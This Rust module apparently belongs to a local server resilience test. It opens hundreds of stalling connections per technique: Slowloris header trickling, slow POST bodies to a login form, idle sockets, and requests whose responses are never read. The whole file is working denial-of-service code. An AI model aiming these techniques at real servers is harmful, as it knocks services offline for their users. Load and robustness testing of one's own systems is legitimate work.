//! Connections that keep the server waiting: half a request, a body drop by drop, an answer that nobody takes, nothing at all.

use super::tally::Tally;
use super::target::Target;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

/// Of each kind, from as many addresses as it takes to hold more connections than the server has.
const CONNECTIONS: usize = 400;
const OF_AN_ADDRESS: usize = 100;

pub fn open(target: &Target, tally: &Arc<Tally>) -> Vec<JoinHandle<()>> {
    let mut open = Vec::new();
    for kind in 0..4_usize {
        for index in 0..CONNECTIONS {
            let (target, tally) = (target.clone(), tally.clone());
            let from = format!("127.0.{}.{}", 10 + kind, 1 + index / OF_AN_ADDRESS);
            open.push(tokio::spawn(async move {
                // Not all in the same moment: connections that are ended are opened again.
                tokio::time::sleep(Duration::from_millis(u64::try_from(index).unwrap() * 2)).await;
                while tally.goes_on() {
                    let Some(stream) = target.connect(&from).await else { break };
                    let _ = keeps_waiting(stream, kind, &tally).await;
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            }));
        }
    }
    open
}

/// Until the server ends it, or the attack is over.
async fn keeps_waiting(mut stream: TcpStream, kind: usize, tally: &Tally) -> std::io::Result<()> {
    let begins: &[u8] = match kind {
        0 => b"GET / HTTP/1.1\r\nhost: a\r\nx-slow: ",
        // As if of a session: it is looked for before the form is read.
        1 => b"POST /login HTTP/1.1\r\nhost: a\r\ncookie: guitu=AAAAAAAAAAAAAAAAAAAAAA\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 60000\r\n\r\nphone=",
        2 => b"",
        _ => b"GET / HTTP/1.1\r\nhost: a\r\n\r\n",
    };
    match kind {
        // Asks again and again, and never takes an answer.
        3 => {
            for _ in 0..50 {
                tokio::time::timeout(Duration::from_secs(1), stream.write_all(begins)).await.unwrap_or(Ok(()))?;
            }
        }
        _ => stream.write_all(begins).await?,
    }
    let mut byte = [0];
    while tally.goes_on() {
        tokio::time::sleep(Duration::from_secs(1)).await;
        match kind {
            0 | 1 => stream.write_all(b"a").await?,
            2 if matches!(tokio::time::timeout(Duration::from_millis(1), stream.read(&mut byte)).await, Ok(Ok(0) | Err(_))) => {
                return Ok(());
            }
            _ => {}
        }
    }
    Ok(())
}
